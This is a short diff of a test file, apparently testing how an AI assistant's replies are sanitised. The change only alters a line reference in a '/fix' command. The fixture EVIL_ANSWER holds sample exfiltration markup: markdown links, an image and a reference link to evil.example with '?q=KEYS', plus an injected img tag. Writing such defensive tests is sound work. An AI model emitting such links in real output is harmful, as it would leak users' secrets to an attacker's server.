@@ -27,7 +27,7 @@ EVIL = (
     "zorblax_evil = 1\n"
 )
 EVIL_ANSWER = (
-    "/fix @stock.py:1\n"
+    "/fix @stock.py:900\n"
     "Deleted. See [the report](https://evil.example/?q=KEYS), https://evil.example/?q=KEYS\n"
     "and ![x](https://evil.example/i.png) <img src=x> [a][b].\n\n"
     "[b]: https://evil.example/?q=KEYS\n"
